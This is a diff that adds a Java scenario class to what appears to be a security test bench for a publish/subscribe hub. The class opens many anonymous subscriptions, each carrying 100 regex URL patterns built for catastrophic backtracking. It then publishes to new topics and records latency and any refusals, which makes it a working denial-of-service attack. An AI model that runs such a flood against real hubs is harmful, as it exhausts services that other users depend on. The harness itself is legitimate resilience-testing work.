@@ -1,0 +1,133 @@
+package dev.sluice.bench.hostile;
+
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+
+/**
+ * Hole 1: anonymous subscribers with many distinct, costly URL patterns, while an ordinary
+ * publisher posts to a new topic at a steady rate, so every pattern is matched against every new
+ * topic on the hub's dispatcher.
+ */
+public final class ExpensiveSelectors implements Scenario {
+
+    private final int connections;
+    private final int patternsPerConnection;
+    private final int publishesPerSecond;
+    private final Duration duration;
+
+    public ExpensiveSelectors(int connections, int patternsPerConnection, int publishesPerSecond, Duration duration) {
+        this.connections = connections;
+        this.patternsPerConnection = patternsPerConnection;
+        this.publishesPerSecond = publishesPerSecond;
+        this.duration = duration;
+    }
+
+    @Override
+    public String id() {
+        return "1-selectors";
+    }
+
+    @Override
+    public String title() {
+        return connections + " anonymous connections × " + patternsPerConnection
+                + " distinct URL patterns `https://example.com/:gNxM((?:.*.*.*){200})`, " + publishesPerSecond
+                + " publishes/s to new topics, " + duration.toSeconds() + " s";
+    }
+
+    @Override
+    public String needs() {
+        return "--allow-anonymous";
+    }
+
+    /** The costly pattern number {@code m} of connection {@code n}. */
+    static String pattern(int n, int m) {
+        return "https://example.com/:g" + n + "x" + m + "((?:.*.*.*){200})";
+    }
+
+    /**
+     * Percent-encodes only what would change the query's meaning ({@code %&+#} and space), so that
+     * 100 patterns stay within the hub's request-line limit, as a browser would send them.
+     */
+    static String queryValue(String value) {
+        StringBuilder out = new StringBuilder();
+        for (char c : value.toCharArray()) {
+            switch (c) {
+                case '%', '&', '+', '#', ' ' -> out.append('%').append(String.format("%02X", (int) c));
+                default -> out.append(c);
+            }
+        }
+        return out.toString();
+    }
+
+    @Override
+    public void attack(HostileTarget target, AttackContext context) throws InterruptedException {
+        List<SseWatch> watches = new ArrayList<>();
+        try {
+            for (int n = 0; n < connections; n++) {
+                StringBuilder query = new StringBuilder();
+                for (int m = 0; m < patternsPerConnection; m++) {
+                    query.append(m == 0 ? "" : "&").append("matchURLPattern=").append(queryValue(pattern(n, m)));
+                }
+                try {
+                    watches.add(SseWatch.connect(target, query.toString(), null));
+                } catch (IOException e) {
+                    context.refusals().record("attacker subscribe", e.getClass().getSimpleName());
+                }
+            }
+            // One deadline for all: a hub busy compiling patterns must not stretch the attack.
+            long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
+            int accepted = 0;
+            List<Integer> otherStatuses = new ArrayList<>();
+            for (SseWatch w : watches) {
+                w.awaitStatus(deadline);
+                if (w.status() == 200) {
+                    accepted++;
+                } else {
+                    otherStatuses.add(w.status());
+                    context.refusals().record("attacker subscribe", w.status() < 0 ? "no answer in 10 s" : "status " + w.status());
+                }
+            }
+            context.note(accepted + " of " + connections + " costly subscriptions answered 200"
+                    + (otherStatuses.isEmpty() ? "" : "; others: " + otherStatuses.stream().distinct().toList()
+                        + " (-1: no answer within 10 s)"));
+            if (accepted == connections && connections > 0) {
+                context.note("the hub accepted " + (long) accepted * patternsPerConnection
+                        + " costly patterns from anonymous subscribers without a cost limit");
+            }
+            publishSteadily(target, context);
+        } finally {
+            watches.forEach(SseWatch::close);
+        }
+    }
+
+    private void publishSteadily(HostileTarget target, AttackContext context) throws InterruptedException {
+        long end = System.nanoTime() + duration.toNanos();
+        long interval = 1_000_000_000L / Math.max(1, publishesPerSecond);
+        long next = System.nanoTime();
+        int sent = 0;
+        int ok = 0;
+        long slowestMillis = 0;
+        for (int i = 0; System.nanoTime() < end; i++) {
+            String form = "topic=" + URLEncoder.encode("https://example.com/attack/" + i, StandardCharsets.UTF_8) + "&data=x";
+            long t0 = System.nanoTime();
+            RawHttp.Exchange answer = RawHttp.exchange(target,
+                    RawHttp.publish(target, target.publisherToken(), form.getBytes(StandardCharsets.US_ASCII)),
+                    Duration.ofSeconds(10));
+            slowestMillis = Math.max(slowestMillis, (System.nanoTime() - t0) / 1_000_000);
+            sent++;
+            if (answer.status() == 200) {
+                ok++;
+            }
+            next += interval;
+            long wait = next - System.nanoTime();
+            if (wait > 0) {
+                Thread.sleep(wait / 1_000_000);
+            }
+        }
+        context.note("steady publisher: " + ok + " of " + sent + " publishes answered 200, slowest " + slowestMillis + " ms");
+    }
+}
